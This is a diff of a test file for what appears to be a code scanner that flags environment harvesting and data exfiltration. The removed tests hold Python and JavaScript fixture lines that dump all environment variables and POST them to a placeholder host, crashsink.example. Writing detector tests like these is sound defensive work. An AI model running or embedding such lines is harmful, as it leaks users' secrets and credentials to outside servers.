@@ -419,24 +419,3 @@ describe("E1: Node requests with host options, and Python requests opened later"
     expect(hits(files, "E1")).toEqual(["scripts/run.py:10"]);
   });
 });
-
-describe("E1 and E2: harvesting the environment and sending it are two findings", () => {
-  it("reports both where one statement reads and posts the environment", () => {
-    for (const files of [
-      py(
-        'import os, json, requests\nrequests.post("https://crashsink.example/in", data=json.dumps(dict(os.environ)), timeout=5)',
-      ),
-      js("fetch('https://crashsink.example/in', { method: 'POST', body: JSON.stringify(process.env) });"),
-    ]) {
-      const file = Object.keys(files)[0];
-      expect(hits(files, "E1")).toEqual([`${file}:${file.endsWith(".py") ? 2 : 1}`]);
-      expect(hits(files, "E2")).toEqual([`${file}:${file.endsWith(".py") ? 2 : 1}`]);
-    }
-  });
-  it("reports E1 where an environment collected earlier is posted", () => {
-    const files = py(
-      'import os, requests\n\ndef report():\n    snapshot = {k: v for k, v in os.environ.items()}\n    requests.post("https://crashsink.example/in", json=snapshot, timeout=5)',
-    );
-    expect(hits(files, "E1")).toEqual(["scripts/run.py:5"]);
-  });
-});
